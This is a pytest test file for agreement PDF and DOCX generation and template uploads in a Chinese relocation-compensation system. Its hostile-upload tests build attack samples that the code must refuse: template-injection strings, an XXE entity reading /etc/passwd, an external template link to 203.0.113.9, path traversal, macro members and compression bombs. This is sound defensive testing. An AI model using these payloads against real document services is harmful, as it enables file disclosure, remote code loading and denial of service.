"""Agreement documents: the PDF (typst) and the DOCX (docxtpl) of a signed agreement, and the
project's editable templates (download, checked upload, use), including hostile uploads."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from anju.agreement import docx_defaults
from anju.agreement import service as agreement_service
from anju.agreement.models import Agreement, AgreementTemplate, SigningTerms
from anju.audit import service as audit_service
from anju.compensation import service as compensation_service
from anju.core.dates import today_shanghai
from anju.core.money import format_yuan, to_chinese_capital
from anju.db.session import unit_of_work
from anju.demo.policies import POLICY_DIR
from anju.errors import NotFound, ValidationFailed
from anju.identity.rules import ScopeKind
from anju.identity.service import DataScope
from tests.api import conftest as api_conftest
from tests.api.conftest import page_csrf
from tests.factories import ACTOR, World, build_world

ALL = DataScope.everything()
SOURCE = (POLICY_DIR / "shantytown.yaml").read_text(encoding="utf-8")
ClientAs = Callable[[str], tuple[TestClient, str, World]]
world_app = api_conftest.world_app
client_as = api_conftest.client_as


# ---------------------------------------------------------------- helpers


def signed(db: Session, w: World, index: int = 0, option: str = "cash", **payee: str) -> Agreement:
    """Publish the demo shantytown policy (once) and sign household ``index``."""
    if not compensation_service.versions(db, w.project_id):
        compensation_service.publish(db, actor=ACTOR, project_id=w.project_id, source=SOURCE)
    return agreement_service.sign(
        db,
        actor=ACTOR,
        scope=ALL,
        household_id=w.household_ids[index],
        option=option,
        sign_on=today_shanghai(),
        payee=agreement_service.Payee(**payee),
    )


def squash(text: str) -> str:
    """Text without any whitespace (PDF and DOCX text wraps and spaces differently)."""
    return re.sub(r"\s+", "", text)


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "agreement.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True, text=True).stdout


def docx_text(content: bytes) -> str:
    """Every paragraph, table cell, header and footer of a DOCX."""
    from docx import Document

    doc = Document(io.BytesIO(content))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        parts += [c.text for row in table.rows for c in row.cells]
    for section in doc.sections:
        parts += [p.text for p in section.header.paragraphs] + [p.text for p in section.footer.paragraphs]
    return "\n".join(parts)


def subtotal_lines(db: Session, a: Agreement) -> list[dict[str, str]]:
    lines: list[dict[str, str]] = agreement_service.document_data(db, scope=ALL, agreement_id=a.id)[
        "subtotals"
    ]
    assert [x["label"] for x in lines] == ["房屋补偿小计", "搬迁安置补偿小计", "补助小计", "奖励合计"]
    return lines


def expected_lines(db: Session, a: Agreement) -> list[str]:
    """What every document of ``a`` must show: household, numbers, items, total and its capital form."""
    snap = agreement_service.get_snapshot(db, a)
    items = [i for i in agreement_service.items_of(snap) if i["applies"]]
    assert len(items) >= 8 and any(i["amount_fen"] >= 10_000_000 for i in items)
    return [
        a.agreement_no,
        "H0001",
        "张建国",
        "青溪路1号",
        "东片区",
        "签约顺序号",
        *[str(i["label"]) for i in items],
        *[format_yuan(int(i["amount_fen"])) for i in items],
        # the policy's subtotal lines (小计), printed and never added to the total
        *[f"{st['label']} {st['amount']} 元" for st in subtotal_lines(db, a)],
        "以上小计不另计入",
        format_yuan(a.total_fen),
        to_chinese_capital(a.total_fen),
        snap.policy_hash[:16],
        "甲方",
        "乙方",
    ]


def with_paragraphs(*texts: str, base: bytes | None = None) -> bytes:
    """A DOCX: the built-in cash template (or ``base``) with paragraphs appended."""
    from docx import Document

    doc = Document(io.BytesIO(base or docx_defaults.default_template("cash")))
    for t in texts:
        doc.add_paragraph(t)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rewrite(
    content: bytes, change: dict[str, Callable[[bytes], bytes]], add: dict[str, bytes] | None = None
) -> bytes:
    """The archive with members changed and added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            data = zin.read(info.filename)
            z.writestr(info.filename, change[info.filename](data) if info.filename in change else data)
        for name, data in (add or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def template_count(db: Session) -> int:
    return int(db.scalar(select(func.count()).select_from(AgreementTemplate)) or 0)


# ---------------------------------------------------------------- the documents


def test_pdf_shows_the_household_the_items_the_total_and_its_capital_form(
    db: Session, tmp_path: Path
) -> None:
    w = build_world(db, households=2)
    a = signed(db, w, name="张建国", bank="青溪农商银行", account="6217000012345678")
    pdf = agreement_service.agreement_pdf(db, scope=ALL, agreement_id=a.id, full_account=True)
    assert pdf.startswith(b"%PDF-")
    text = squash(pdf_text(pdf, tmp_path))
    missing = [line for line in expected_lines(db, a) if squash(line) not in text]
    assert missing == []
    assert "货币补偿协议" in text and "第1号" in text
    assert "人民币" + to_chinese_capital(a.total_fen) in text
    # the schedule: 70% on signing (whole yuan), the rest after vacating, both with capitals
    assert "签约后支付" in text and "腾空验收后支付" in text
    assert "6217000012345678" in text and "青溪农商银行" in text
    # same agreement, same bytes (no creation date in the file)
    assert agreement_service.agreement_pdf(db, scope=ALL, agreement_id=a.id, full_account=True) == pdf
    # a reader without PII_READ gets the account's last four digits only
    masked = squash(pdf_text(agreement_service.agreement_pdf(db, scope=ALL, agreement_id=a.id), tmp_path))
    assert "6217000012345678" not in masked and "************5678" in masked


def test_swap_and_conditional_agreements_print_their_terms(db: Session, tmp_path: Path) -> None:
    w = build_world(db, households=2)
    db.add(
        SigningTerms(
            project_id=w.project_id,
            agreement_prefix="QX",
            on_sign_share_bp=6000,
            condition_kind="project_rate",
            condition_rate_bp=8000,
            condition_deadline_on=date(2099, 12, 31),
        )
    )
    db.flush()
    a = signed(db, w, index=1, option="swap")
    assert a.status == "pending" and a.agreement_no == "QX-0001"
    data = agreement_service.document_data(db, scope=ALL, agreement_id=a.id)
    assert data["title"] == "产权调换协议" and data["option"] == "产权调换"
    assert data["condition"].startswith(
        "本协议附生效条件：全项目签约率达到约定比例，签约率达到 80%，期限至 2099年12月31日"
    )
    assert [p["due"] for p in data["instalments"]] == ["协议生效后", "腾空验收合格后"]
    text = squash(pdf_text(agreement_service.agreement_pdf(db, scope=ALL, agreement_id=a.id), tmp_path))
    for line in (
        "产权调换协议",
        "QX-0001",
        "第六条生效条件",
        "签约率达到80%",
        "自生效条件成就之日起生效",
        "选房确认书",
        "待生效",
    ):
        assert line in text, line
    docx = squash(docx_text(agreement_service.agreement_docx(db, scope=ALL, agreement_id=a.id)))
    for line in ("产权调换协议", "第六条生效条件", "签约率达到80%", "选房确认书"):
        assert line in docx, line


def test_docx_from_the_built_in_template_holds_the_same(db: Session) -> None:
    w = build_world(db, households=2)
    a = signed(db, w)
    text = squash(docx_text(agreement_service.agreement_docx(db, scope=ALL, agreement_id=a.id)))
    missing = [line for line in expected_lines(db, a) if squash(line) not in text]
    assert missing == []
    assert "{{" not in text and "{%" not in text
    # an unconditional agreement has no condition clause: 第六条 is the closing one
    assert "生效条件" not in text and "第六条其他" in text and "自双方签字（盖章）之日起生效" in text


def test_documents_respect_the_household_scope(db: Session) -> None:
    w = build_world(db, households=6)
    outside = signed(db, w, index=5)
    member = DataScope(kind=ScopeKind.ASSIGNED, user_id=w.users["team_member"])
    for render in (agreement_service.agreement_pdf, agreement_service.agreement_docx):
        with pytest.raises(NotFound) as exc:
            render(db, scope=member, agreement_id=outside.id)
        assert exc.value.message_zh == "协议不存在"
    with pytest.raises(NotFound):
        agreement_service.agreement_pdf(db, scope=ALL, agreement_id=outside.id + 1000)


# ---------------------------------------------------------------- templates


def test_an_uploaded_template_round_trips_and_replaces_the_last(db: Session) -> None:
    w = build_world(db, households=2)
    a = signed(db, w)
    default = agreement_service.template_content(db, project_id=w.project_id, option="cash")
    assert default == docx_defaults.default_template("cash")
    before = audit_service.count(db)
    edited = with_paragraphs(
        "青溪街道专用文本：{{ household.head_name }}（{{ agreement_no }}），共 {{ items|length }} 项"
    )
    first = agreement_service.upload_template(
        db, actor=ACTOR, project_id=w.project_id, option="cash", filename="../我的模板.docx", content=edited
    )
    assert first.file_name == "我的模板.docx" and first.retired_at is None
    assert audit_service.count(db) == before + 1
    assert agreement_service.template_content(db, project_id=w.project_id, option="cash") == edited
    assert (
        agreement_service.template_content(db, project_id=w.project_id, option="cash", default=True)
        == default
    )
    # the swap option keeps the built-in one
    assert agreement_service.template_content(db, project_id=w.project_id, option="swap") == (
        docx_defaults.default_template("swap")
    )
    text = docx_text(agreement_service.agreement_docx(db, scope=ALL, agreement_id=a.id))
    n = len([i for i in agreement_service.items_of(agreement_service.get_snapshot(db, a)) if i["applies"]])
    assert f"青溪街道专用文本：张建国（{a.agreement_no}），共 {n} 项" in text
    second = agreement_service.upload_template(
        db, actor=ACTOR, project_id=w.project_id, option="cash", filename="第二版.docx", content=default
    )
    infos = {t.option: t for t in agreement_service.project_templates(db, project_id=w.project_id)}
    assert infos["cash"].current is not None and infos["cash"].current.id == second.id
    assert [t.id for t in infos["cash"].history] == [second.id, first.id]
    assert first.retired_at is not None and infos["swap"].current is None and infos["swap"].history == []


def test_unknown_placeholders_are_refused_with_their_names(db: Session) -> None:
    w = build_world(db, households=1)
    before = (template_count(db), audit_service.count(db))
    bad = with_paragraphs(
        "{{ bogus_field }} {{ household.bogus }} {{ household.address }}",
        "{% for item in items %}{{ item.label }}{{ item.nope }}{% endfor %}{{ payee.account.more }}",
    )
    with pytest.raises(ValidationFailed) as exc:
        agreement_service.upload_template(
            db, actor=ACTOR, project_id=w.project_id, option="cash", filename="模板.docx", content=bad
        )
    assert exc.value.code == "unknown_placeholder"
    names = ["bogus_field", "household.bogus", "item.nope", "payee.account.more"]
    assert [d["placeholder"] for d in exc.value.details] == names
    assert exc.value.message_zh.startswith("模板“模板.docx”中有未知的占位符：" + "、".join(names))
    assert (template_count(db), audit_service.count(db)) == before


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("{{ ''.__class__.__mro__ }}", "以下划线开头的属性"),
        ("{{ total.upper() }}", "调用函数或方法"),
        ("{{ range(10) }}", "range"),  # an unknown name (and a call)
        ("{{ total * 99999999 }}", "算术运算"),
        ("{{ '%999999999s'|format(total) }}", "过滤器 format"),
        ("{{ total|center(999999999) }}", "过滤器 center"),
        (
            "{% for a in items %}{% for b in items %}{% for c in items %}x{% endfor %}{% endfor %}{% endfor %}",
            "嵌套循环",
        ),
        ("{% macro m() %}{{ m() }}{% endmacro %}", "宏（macro）"),
        ("{% include 'other.docx' %}", "包含其他模板（include）"),
        ("{{ household.address ", "语法错误"),
    ],
)
def test_templates_that_would_run_code_or_grow_are_refused(db: Session, text: str, named: str) -> None:
    w = build_world(db, households=1)
    with pytest.raises(ValidationFailed) as exc:
        agreement_service.upload_template(
            db,
            actor=ACTOR,
            project_id=w.project_id,
            option="swap",
            filename="t.docx",
            content=with_paragraphs(text),
        )
    assert named in exc.value.message_zh
    assert template_count(db) == 0


def _external_rel(data: bytes) -> bytes:
    rel = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>'
    )
    return data.replace(b"</Relationships>", rel + b"</Relationships>")


def _dtd(data: bytes) -> bytes:
    head, body = data.split(b"?>", 1)
    return (
        head
        + b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + body.replace(b"{{ title }}", b"&x;")
    )


def _hostile() -> list[tuple[str, bytes, str]]:
    from tests.integration.test_hostile_files import a1_xfd, bomb, png

    good = docx_defaults.default_template("cash")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    return [
        ("空.docx", b"", "为空"),
        ("照片.docx", png(10, 10), "PNG 图片，不是 Word 文档（.docx）"),
        ("表格.docx", a1_xfd(), "Excel 工作簿（.xlsx），不是 Word 文档"),
        ("旧版.doc", ole, "另存为 .docx"),
        ("网页.docx", b"<html><script>alert(1)</script></html>", "HTML 网页，不是 Word 文档"),
        ("程序.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "Linux 可执行程序"),
        ("坏.docx", good[:400], "已损坏或格式不正确"),
        ("宏.docx", rewrite(good, {}, {"word/vbaProject.bin": b"\x00" * 64}), "含有宏、控件或嵌入的对象"),
        (
            "对象.docx",
            rewrite(good, {}, {"word/embeddings/oleObject1.bin": b"\x00" * 64}),
            "含有宏、控件或嵌入的对象",
        ),
        ("外链.docx", rewrite(good, {"word/_rels/document.xml.rels": _external_rel}), "引用了外部文件"),
        ("实体.docx", rewrite(good, {"word/document.xml": _dtd}), "文档类型定义（DTD）"),
        ("../../路径.docx", rewrite(good, {}, {"../evil.txt": b"x"}), "非法路径"),
        ("炸弹.docx", rewrite(good, {"word/document.xml": lambda d: d + b" " * 20_000_000}), "疑似压缩炸弹"),
        ("表格炸弹.docx", bomb(), "疑似压缩炸弹"),
        ("大.docx", good + b"\x00" * (10 * 1024 * 1024), "超过上限"),
    ]


def test_hostile_files_are_refused_with_a_chinese_message(db: Session) -> None:
    w = build_world(db, households=1)
    before = (template_count(db), audit_service.count(db))
    for name, content, message in _hostile():
        with pytest.raises(ValidationFailed) as exc:
            agreement_service.upload_template(
                db, actor=ACTOR, project_id=w.project_id, option="cash", filename=name, content=content
            )
        assert message in exc.value.message_zh, (name, exc.value.message_zh)
        assert re.search(r"[\u4e00-\u9fff]", exc.value.message_zh)
    assert (template_count(db), audit_service.count(db)) == before


def test_an_unknown_option_or_project_is_not_found(db: Session) -> None:
    w = build_world(db, households=1)
    with pytest.raises(NotFound):
        agreement_service.template_content(db, project_id=w.project_id, option="lottery")
    with pytest.raises(NotFound):
        agreement_service.upload_template(
            db,
            actor=ACTOR,
            project_id=w.project_id + 999,
            option="cash",
            filename="t.docx",
            content=docx_defaults.default_template("cash"),
        )


def test_every_placeholder_of_the_built_in_templates_is_documented() -> None:
    for option in ("cash", "swap"):
        agreement_service.check_template(docx_defaults.default_template(option), f"{option}.docx")
    names = dict(agreement_service.template_fields())
    assert {"household.head_name", "items", "items[].amount", "total_capital", "instalments[].due"} <= set(
        names
    )


# ---------------------------------------------------------------- over HTTP


def _sign_in_app(world: World, index: int = 0) -> int:
    with unit_of_work() as db:
        return signed(db, world, index, name="张建国", account="6217000012345678").id


def test_document_route_gives_pdf_and_docx_and_masks_the_account(client_as: ClientAs, tmp_path: Path) -> None:
    client, _csrf, world = client_as("case_officer")
    aid = _sign_in_app(world)
    r = client.get(f"/api/v1/agreements/{aid}/document")
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    assert r.headers["content-disposition"].startswith("inline; filename*=UTF-8''")
    assert "6217000012345678" in squash(pdf_text(r.content, tmp_path))
    r = client.get(f"/api/v1/agreements/{aid}/document?format=docx")
    assert r.status_code == 200 and r.headers["content-type"] == agreement_service.DOCX_TYPE
    text = docx_text(r.content)
    assert "张建国" in text and "6217000012345678" in text
    r = client.get(f"/api/v1/agreements/{aid}/document?format=xls")
    assert r.status_code == 422
    assert client.get(f"/api/v1/agreements/{aid + 100}/document").json()["code"] == "not_found"
    # the team member reads the own household's agreement, without the full account number
    client, _csrf, _ = client_as("team_member")
    r = client.get(f"/agreements/{aid}/print")
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    masked = squash(pdf_text(r.content, tmp_path))
    assert "张建国" in masked and "6217000012345678" not in masked and "************5678" in masked


def test_templates_page_upload_refusal_and_download(client_as: ClientAs) -> None:
    client, _csrf, world = client_as("case_officer")
    aid = _sign_in_app(world)
    url = f"/projects/{world.project_id}/agreement-templates"
    page = client.get(url)
    assert page.status_code == 200
    assert "货币补偿协议" in page.text and "产权调换协议" in page.text and "household.head_name" in page.text
    token = page_csrf(page.text)
    bad = with_paragraphs("{{ bogus_field }}")
    r = client.post(
        url,
        data={"csrf_token": token, "option": "cash"},
        files={"file": ("坏模板.docx", bad, "application/octet-stream")},
    )
    assert r.status_code == 422 and "未知的占位符" in r.text and "<code>bogus_field</code>" in r.text
    r = client.post(
        url,
        data={"csrf_token": token, "option": "cash"},
        files={"file": ("照片.png", b"\x89PNG\r\n\x1a\n", "image/png")},
    )
    assert r.status_code == 422 and "不是 Word 文档（.docx）" in r.text
    r = client.post(
        url,
        data={"csrf_token": token, "option": "gift"},
        files={"file": ("x.docx", bad, "application/octet-stream")},
    )
    assert r.status_code == 422 and "请选择模板对应的安置方式" in r.text
    good = with_paragraphs("办公室自定义条款：{{ party_b.name }}")
    r = client.post(
        url,
        data={"csrf_token": token, "option": "cash"},
        files={"file": ("办公室模板.docx", good, "application/octet-stream")},
        follow_redirects=False,
    )
    assert r.status_code == 303 and r.headers["location"] == url + "?ok=uploaded&option=cash"
    page = client.get(r.headers["location"])
    assert "货币补偿协议模板已上传" in page.text and "办公室模板.docx" in page.text
    assert client.get(f"{url}/cash.docx").content == good
    assert client.get(f"{url}/cash.docx?which=default").content == docx_defaults.default_template("cash")
    assert client.get(f"{url}/lottery.docx").status_code == 404
    assert "办公室自定义条款：张建国" in docx_text(
        client.get(f"/api/v1/agreements/{aid}/document?format=docx").content
    )
    # the finance role may read agreements but not manage templates
    client, _csrf, _ = client_as("finance")
    assert client.get(url).status_code == 403


def test_a_template_that_fails_on_real_data_is_a_409_not_a_500(
    client_as: ClientAs, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, _csrf, world = client_as("case_officer")
    aid = _sign_in_app(world)
    with unit_of_work() as db:
        agreement_service.upload_template(
            db,
            actor=ACTOR,
            project_id=world.project_id,
            option="cash",
            filename="t.docx",
            content=with_paragraphs("顺序号首位：{{ sign_no|first }}"),
        )
    # a value the sample had but the real data lacks (a later change of the data's shape)
    from anju.agreement.service import documents

    real = documents.document_data
    monkeypatch.setattr(
        documents,
        "document_data",
        lambda *a, **k: {key: v for key, v in real(*a, **k).items() if key != "sign_no"},
    )
    r = client.get(f"/api/v1/agreements/{aid}/document?format=docx")
    assert r.status_code == 409 and r.json()["code"] == "template_error"
    assert "协议模板无法生成文档" in r.json()["message"]


def test_markup_characters_in_the_data_are_text_in_the_docx() -> None:
    from anju.agreement.service import documents

    data = documents._sample(docx_defaults.FIELDS)
    data["household"]["address"] = "青溪路 3 号 A&B <东> 单元"
    out = documents._render_docx(docx_defaults.default_template("cash"), data)
    assert "被征收房屋坐落：青溪路 3 号 A&B <东> 单元（" in docx_text(out)
